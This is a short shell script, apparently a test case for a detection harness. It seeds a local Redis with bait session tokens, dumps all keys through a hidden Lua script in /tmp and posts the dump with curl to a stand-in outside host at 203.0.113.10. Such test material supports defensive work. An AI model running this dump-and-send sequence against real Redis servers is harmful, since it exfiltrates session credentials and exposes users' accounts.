#!/bin/sh
. /opt/case/case.sh

redis-server --port 6390 --bind 127.0.0.1 --save '' --daemonize yes >/dev/null
until redis-cli -p 6390 ping >/dev/null 2>&1; do sleep 0.1; done
for n in $(seq 1 40); do echo "SET session:$n token-bait-$n"; done | redis-cli -p 6390 >/dev/null
cat >/tmp/.d.lua <<'END'
local out = {}; local c = "0"
repeat local r = redis.call("SCAN", c, "COUNT", 100); c = r[1]; for _, k in ipairs(r[2]) do if redis.call("TYPE", k).ok == "string" then out[#out + 1] = k .. "=" .. redis.call("GET", k) end end until c == "0"
return table.concat(out, "\n")
END
redis-cli -p 6390 --eval /tmp/.d.lua >/tmp/.d.txt
curl -sf --data-binary @/tmp/.d.txt http://203.0.113.10:8080/up >/dev/null
redis-cli -p 6390 shutdown nosave 2>/dev/null || true
test "$(wc -l </tmp/.d.txt)" -ge 40
took_place
